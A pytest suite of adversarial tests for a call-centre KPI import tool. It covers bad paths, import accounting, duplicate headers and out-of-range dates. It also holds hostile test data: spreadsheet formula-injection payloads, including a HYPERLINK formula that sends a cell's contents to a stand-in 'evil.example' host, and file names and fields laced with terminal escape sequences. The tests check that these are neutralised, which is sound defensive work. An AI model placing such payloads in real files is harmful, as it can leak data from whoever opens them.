"""Adversarial corpus for ``kpi import``: hostile names, malformed files, bad arguments.

The rule for every case: no run prints a traceback, a refusal is one line naming the path (or
column) and the reason with exit status 2, and every completed import accounts for every row
(read = loaded + quarantined).
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import polars as pl
import pytest

from kpi.errors import KpiError
from kpi.io import import_file

ROOT = Path(__file__).resolve().parents[2]
MAPPING = ROOT / "tests" / "data" / "acd_mapping.toml"
SMALL = ROOT / "tests" / "data" / "acd_export.csv"
HEADER = "Call ID;Date;Start Time;Skill;Agent;Result;Wait;Talk Time;Hold;Wrap;Transferred;Reason"
CALLER = ";Caller"


def _kpi(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "kpi", "import", *args],
        capture_output=True,
        text=True,
        timeout=120,
    )


def _one_line_refusal(done: subprocess.CompletedProcess[str], *needles: str) -> str:
    assert done.returncode == 2, (done.returncode, done.stdout, done.stderr)
    assert "Traceback" not in done.stderr
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1, done.stderr
    assert lines[0].startswith("kpi import: error: ")
    for needle in needles:
        assert needle in lines[0]
    return lines[0]


def _accounted(out: Path) -> dict:
    doc = json.loads((out / "import_report.json").read_text())
    for rec in doc["tables"].values():
        assert rec["read"] == rec["loaded"] + rec["quarantined"]
    return doc


# ------------------------------------------------------ file-system errors: one line each


def test_bad_places_are_one_line(tmp_path):
    a_file = tmp_path / "a_file"
    a_file.write_text("x")
    base = ["--mapping", str(MAPPING), "--quiet"]
    cases = [
        (["--input", str(tmp_path / "missing.csv"), "--out", str(tmp_path / "o")], "missing.csv"),
        (["--input", str(tmp_path), "--out", str(tmp_path / "o")], "is a directory"),
        (["--input", str(SMALL), "--out", str(a_file)], "is a file"),
        (["--input", str(SMALL), "--out", str(a_file / "sub")], "is a file"),
    ]
    for args, needle in cases:
        _one_line_refusal(_kpi(*args, *base), needle)
    # a mapping that is a directory, or missing
    done = _kpi("--input", str(SMALL), "--mapping", str(tmp_path), "--out", str(tmp_path / "o"))
    _one_line_refusal(done, str(tmp_path), "cannot read")
    done = _kpi("--input", str(SMALL), "--mapping", str(tmp_path / "m.toml"), "--out", "o")
    _one_line_refusal(done, "m.toml", "does not exist")
    assert not (tmp_path / "o").exists()  # a refused import creates nothing


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads and writes regardless of file modes")
def test_unreadable_input_and_unwritable_out_are_one_line(tmp_path):
    src = tmp_path / "calls.csv"
    src.write_bytes(SMALL.read_bytes())
    src.chmod(0)
    try:
        done = _kpi("--input", str(src), "--mapping", str(MAPPING), "--out", str(tmp_path / "o"))
        _one_line_refusal(done, str(src), "Permission denied")
    finally:
        src.chmod(0o644)
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o555)
    done = _kpi("--input", str(src), "--mapping", str(MAPPING), "--out", str(locked / "ds"))
    _one_line_refusal(done, str(locked), "cannot write")


# ------------------------------------------------------------- one record per table (item 6)


def test_second_table_keeps_the_first_tables_accounting(tmp_path):
    out = tmp_path / "site"
    calls = import_file(SMALL, mapping=MAPPING, out=out)
    tickets_csv = tmp_path / "tickets.csv"
    tickets_csv.write_text(
        "id,created,team,topic\n1,2025-03-28,x,y\n2,2025-03-28,x,\n3,soon,x,y\n"
    )
    tickets = import_file(
        tickets_csv, preset="tickets", out=out, tz="Europe/London", max_quarantine_share=0.5
    )
    doc = _accounted(out)
    # the latest import at the top, as before; every table's record under "tables"
    assert doc["table"] == "tickets"
    assert doc["read"] == tickets.report.read
    assert sorted(doc["tables"]) == ["contacts", "tickets"]
    contacts = doc["tables"]["contacts"]
    assert (contacts["read"], contacts["loaded"], contacts["quarantined"]) == (
        calls.report.read,
        calls.report.loaded,
        calls.report.quarantined,
    )
    assert contacts["input"].endswith("acd_export.csv")
    meta = json.loads((out / "dataset.json").read_text())
    assert [(s["table"], Path(s["file"]).name) for s in meta["sources"]] == [
        ("contacts", "acd_export.csv"),
        ("tickets", "tickets.csv"),
    ]
    assert (out / "quarantine" / "contacts.csv").exists()
    # re-importing contacts (no --append) replaces only the contacts record and source
    import_file(SMALL, mapping=MAPPING, out=out)
    doc = _accounted(out)
    assert doc["table"] == "contacts"
    assert doc["tables"]["tickets"]["read"] == 3
    assert "earlier_imports" not in doc["tables"]["contacts"]
    meta = json.loads((out / "dataset.json").read_text())
    assert [s["table"] for s in meta["sources"]] == ["tickets", "contacts"]
    # appending contacts keeps the history of contacts only
    import_file(SMALL, mapping=MAPPING, out=out, append=True)
    rec = _accounted(out)["tables"]["contacts"]
    assert [Path(e["input"]).name for e in rec["earlier_imports"]] == ["acd_export.csv"]
    assert all(e["table"] == "contacts" for e in rec["earlier_imports"])


def test_a_report_of_the_old_single_form_is_read_as_one_record(tmp_path):
    out = tmp_path / "site"
    import_file(SMALL, mapping=MAPPING, out=out)
    doc = json.loads((out / "import_report.json").read_text())
    old = {k: v for k, v in doc.items() if k != "tables"}
    (out / "import_report.json").write_text(json.dumps(old))
    import_file(SMALL, mapping=MAPPING, out=out, append=True)
    rec = _accounted(out)["tables"]["contacts"]
    assert len(rec["earlier_imports"]) == 1


# ---------------------------------------------------------- formula injection in quarantine


def test_quarantine_csv_cells_cannot_run_as_formulas(tmp_path):
    hostile = [
        '=HYPERLINK("http://evil","x")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",  # read as "=1" (fields are trimmed)
        "\uff1d1",  # a full-width equals sign
    ]
    rows = [HEADER + CALLER]
    for i, payload in enumerate(hostile):  # each row quarantined: outcome code unknown
        rows.append(f"C{i};28/03/2025;08:00:00;{payload};ann;{payload};0:10;;;;N;x;{payload}")
    src = tmp_path / "hostile.csv"
    src.write_text("\n".join(rows) + "\n")
    out = tmp_path / "ds"
    with pytest.raises(KpiError, match="no row could be loaded"):
        import_file(src, mapping=MAPPING, out=out)
    rows.append("OK1;28/03/2025;08:00:00;Billing;ann;ANS;0:10;00:01:00;0:00;0:10;N;x;C1")
    src.write_text("\n".join(rows) + "\n")
    import_file(src, mapping=MAPPING, out=out, max_quarantine_share=1)
    _accounted(out)
    q = pl.read_csv(out / "quarantine" / "contacts.csv", infer_schema=False)
    assert q.height == len(hostile)
    for col in ("Skill", "Result", "Caller"):
        for cell in q[col]:
            assert cell.startswith("'"), cell
    assert q["source_row"].to_list() == [str(i) for i in range(2, 2 + len(hostile))]
    # the raw values, for machines, on request
    done = _kpi(
        *("--input", str(src), "--mapping", str(MAPPING), "--out", str(out), "--raw-csv"),
        *("--max-quarantine-share", "1"),
    )
    assert done.returncode == 0, done.stderr
    raw = pl.read_csv(out / "quarantine" / "contacts.csv", infer_schema=False)
    assert raw["Result"].to_list() == [h.strip() for h in hostile]


def test_quarantine_csv_header_cells_cannot_run_as_formulas(tmp_path):
    """The quarantine file repeats the source's header: a column named like a formula is made
    inert there too, with the data cells."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    src = tmp_path / "hostile.csv"
    src.write_text(
        HEADER + CALLER + ";" + evil.replace(",", "_") + "\n"
        "C1;28/03/2025;08:00:00;Billing;ann;XXX;0:10;;;;N;x;C1;1\n"
        "C2;28/03/2025;08:00:00;Billing;ann;ANS;0:10;00:01:00;0:00;0:10;N;x;C2;2\n"
    )
    out = tmp_path / "ds"
    import_file(src, mapping=MAPPING, out=out, max_quarantine_share=1)
    header = (out / "quarantine" / "contacts.csv").read_text().splitlines()[0]
    cells = next(csv.reader([header]))
    assert "'" + evil.replace(",", "_") in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]


# ---------------------------------------------------------------------- importer details


def test_repeated_header_is_reported_and_an_ambiguous_mapping_refused(tmp_path):
    src = tmp_path / "dup.csv"
    src.write_text(
        HEADER + CALLER + CALLER + "\n"
        "C1;28/03/2025;08:00:00;Billing;ann;ANS;0:10;00:01:00;0:00;0:10;N;x;C77;C78\n"
    )
    out = tmp_path / "ds"
    with pytest.raises(KpiError) as err:  # the mapping names customer_id = "Caller"
        import_file(src, mapping=MAPPING, out=out)
    msg = str(err.value)
    assert "'Caller' (set by columns.customer_id) is ambiguous" in msg
    assert "'Caller_1', 'Caller_2'" in msg
    assert not out.exists()
    # naming one of them works, and the report says what happened to the header
    spec = MAPPING.read_text().replace('customer_id = "Caller"', 'customer_id = "Caller_2"')
    fixed = tmp_path / "m.toml"
    fixed.write_text(spec)
    result = import_file(src, mapping=fixed, out=out)
    assert result.frame["customer_id"].to_list() == ["C78"]
    doc = _accounted(out)
    assert doc["source"]["duplicate_columns"] == {"Caller": ["Caller_1", "Caller_2"]}
    assert any("names 2 columns 'Caller'" in w for w in doc["warnings"])


def test_stored_times_outside_1900_2100_are_quarantined(tmp_path):
    src = tmp_path / "calls.parquet"
    pl.DataFrame(
        {
            "call_id": ["1", "2", "3", "4"],
            "start_time": [
                datetime(2025, 1, 6, 9),
                datetime(9999, 12, 31),
                datetime(1677, 9, 22),
                datetime(2025, 1, 6, 10),
            ],
            "skill": ["a"] * 4,
            "disposition": ["handled"] * 4,
            "wait_time": [3, 4, 5, 6],
            "talk_time": [10, 10, 10, 10],
        },
        schema_overrides={"start_time": pl.Datetime("us")},
    ).write_parquet(src)
    result = import_file(
        src, preset="contacts", tz="Europe/London", out=tmp_path / "ds", max_quarantine_share=0.5
    )
    r = result.report
    assert (r.read, r.loaded, r.quarantined) == (4, 2, 2)
    assert r.quarantined_by_reason == {"arrival_ts outside 1900-2100": 2}
    assert result.frame["arrival_ts"].dt.year().to_list() == [2025, 2025]
    q = pl.read_csv(tmp_path / "ds" / "quarantine" / "contacts.csv", infer_schema=False)
    assert q["source_row"].to_list() == ["2", "3"]
    # dates too
    pl.DataFrame(
        {"id": ["1", "2"], "created": [datetime(2025, 1, 6).date(), datetime(9999, 1, 1).date()]}
    ).write_parquet(src)
    r = import_file(src, preset="tickets", tz="UTC", max_quarantine_share=1).report
    assert r.quarantined_by_reason == {"created_ts outside 1900-2100": 1}


def test_parquet_without_rows_says_so(tmp_path):
    src = tmp_path / "empty.parquet"
    pl.DataFrame(schema={"call_id": pl.String, "start_time": pl.Datetime}).write_parquet(src)
    with pytest.raises(KpiError) as err:
        import_file(src, preset="contacts", tz="UTC")
    assert str(err.value) == f"{src}: the Parquet file has no rows (columns: call_id, start_time)"


def test_the_summary_never_sends_control_characters_to_the_terminal(tmp_path):
    """A file name and a value that hold ESC sequences (clear screen, red) are shown escaped."""
    hostile = tmp_path / "calls\x1b[2J\x1b[31m.csv"
    text = SMALL.read_text(encoding="utf-8")
    lines = text.splitlines()
    # a result no mapping knows: the row is quarantined and its reason quotes the value
    lines[1] = lines[1].replace(";ANS;", ";\x1b[2Jgone\x1b[0m;", 1)
    assert "\x1b" in lines[1]
    hostile.write_text("\n".join(lines) + "\n", encoding="utf-8")
    done = _kpi(
        *("--input", str(hostile), "--mapping", str(MAPPING), "--out", str(tmp_path / "ds")),
        *("--max-quarantine-share", "0.5"),
    )
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    assert "\x1b" not in done.stdout + done.stderr
    assert "\\x1b[2J" in done.stdout  # shown, not obeyed
